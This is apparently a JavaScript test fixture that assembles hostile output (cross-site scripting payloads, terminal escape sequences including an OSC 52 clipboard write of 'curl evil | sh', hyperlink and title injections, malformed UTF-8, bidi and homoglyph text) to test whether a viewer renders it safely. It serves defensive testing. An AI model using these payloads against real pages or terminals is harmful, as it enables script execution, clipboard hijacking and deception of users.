// What a compromised host writes to attack whoever looks: one entry a line of output, text or raw bytes.

// Whatever runs sets it; whatever is fetched goes there.
export const CANARY = "steadyhandCanary";
export const ELSEWHERE = "https://evil.example";

const ran = `window.${CANARY}=1`;
const bytes = (...parts) => Buffer.concat(parts.map((part) => (typeof part === "string" ? Buffer.from(part, "utf8") : Buffer.from(part))));
const link = (target, end, close) => bytes(`\u001b]8;;${target}`, end, "click me", "\u001b]8;;", close ?? end);

export const MARKUP = [
  `<script>${ran}</script>`,
  `<script src="${ELSEWHERE}/x.js"></script>`,
  `<svg onload=${ran}>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text>x</text></a></svg>`,
  `<img src=x onerror=${ran}>`,
  `<img src="${ELSEWHERE}/x.png">`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${CANARY}=1"></iframe>`,
  `<a href="javascript:${ran}" autofocus onfocus=${ran}>x</a>`,
  `<a href="${ELSEWHERE}" ping="${ELSEWHERE}">x</a>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<style>@import url(${ELSEWHERE}/x.css); * { display: none }</style>`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}"><input name=x autofocus onfocus=${ran}></form>`,
  `<details open ontoggle=${ran}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `</textarea><script>${ran}</script>`,
  `</title><script>${ran}</script>`,
  `</pre></span></main><script>${ran}</script>`,
  `--><script>${ran}</script><!--`,
  `]]><script>${ran}</script>`,
  `"><script>${ran}</script>`,
  `'><script>${ran}</script>`,
  `\` onmouseover=${ran} x=\``,
  `" onmouseover="${ran}" x="`,
  `&lt;script&gt;${ran}&lt;/script&gt;`,
  `&#60;script&#62;${ran}&#60;/script&#62;`,
  `&#x6a;avascript:${ran}`,
  `+ADw-script+AD4-${ran}+ADw-/script+AD4-`,
  `\\u003cscript\\u003e${ran}\\u003c/script\\u003e`,
  `[click](javascript:${ran}) ![x](${ELSEWHERE}/x.png)`,
  `{{constructor.constructor("${ran}")()}} {{{page}}} {{#each this}}{{@key}}{{/each}} \${${ran}}`,
  `javascript:${ran}`,
  `data:text/html,<script>${ran}</script>`,
];

const SEQUENCES = [
  ...["\u0007", "\u001b\\", "\u009c"].flatMap((end) => [
    link(`javascript:${ran}`, end),
    link(`JaVaScRiPt:${ran}`, end),
    link(`data:text/html,<script>${ran}</script>`, end),
    link(`${ELSEWHERE}/"onmouseover="${ran}`, end),
  ]),
  link(`javascript:${ran}`, "\u0007", ""),
  bytes("\u001b]8;;javascript:", ran),
  bytes("\u009d8;;javascript:", ran, "\u009cclick me\u009d8;;\u009c"),
  bytes([0x9d], `8;;javascript:${ran}`, [0x9c], "click me"),
  bytes("\u001b]0;<script>", ran, "</script>\u0007 a title"),
  bytes("\u001b]52;c;", Buffer.from("curl evil | sh").toString("base64"), "\u0007 a clipboard"),
  bytes("\u001b]1337;File=inline=1:", Buffer.from("<svg onload=x>").toString("base64"), "\u0007 a picture"),
  bytes("\u001bP<script>", ran, "</script>\u001b\\ a device string"),
  bytes("\u001b_<img src=x onerror=", ran, ">\u001b\\ an application command"),
  bytes("\u001b[31", ";31".repeat(20_000), "mred at last\u001b[0m"),
  bytes("\u001b[<script>", ran, "</script>m"),
  bytes("\u001b[38;2;\"><script>", ran, "</script>m"),
  bytes("\u001b[2J\u001b[H\u001b[1A\u001b[8mhidden\u001b[0m"),
  bytes("overwritten\r", `<img src=x onerror=${ran}>`),
];

const BYTES = [
  bytes("nul ", [0], "<script", [0], ">", ran, "</script>"),
  bytes("c1 ", [0xc2, 0x85], [0xc2, 0x9b], "31m", [0x9b], "32m"),
  bytes("invalid ", [0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf8, 0x88, 0x80], `<svg onload=${ran}>`),
  bytes("overlong ", [0xc0, 0xbc], "script", [0xc0, 0xbe], ran, [0xe0, 0x80, 0xbc], "/script>"),
  bytes("half ", [0xe2, 0x80]),
  bytes("bidi \u202e\u2066// if admin \u2069\u2066 begin\u202c \u200f\u061c\u2067x\u2068y\u2069"),
  bytes("zero width a\u200bb\u200cc\u200dd\u2060e\ufeff"),
  bytes("tags \u{e0041}\u{e0042}\u{e007f} variation \ufe0f\u{e0100}"),
  bytes("lines \u2028 and \u2029 and \u0085 and \u000b and \u000c end"),
  bytes("homoglyphs: \u0430dmin p\u0430ypal \uff1cscript\uff1e", ran, "\uff1c/script\uff1e \u202fx"),
  bytes("combining ", "z" + "\u0300\u0489".repeat(500)),
  bytes("long ", "x".repeat(200_000), `<script>${ran}</script>`),
  bytes("tabs\tand\bbackspaces\b\b\u007f"),
];

// All of it as one output, every line with a mark of its own so that a test finds it on the page.
export const OUTPUT = Buffer.concat(
  [...MARKUP.map((text) => bytes(text)), ...SEQUENCES, ...BYTES].map((line, number) => bytes(`mark-${number} `, line, "\n")),
);
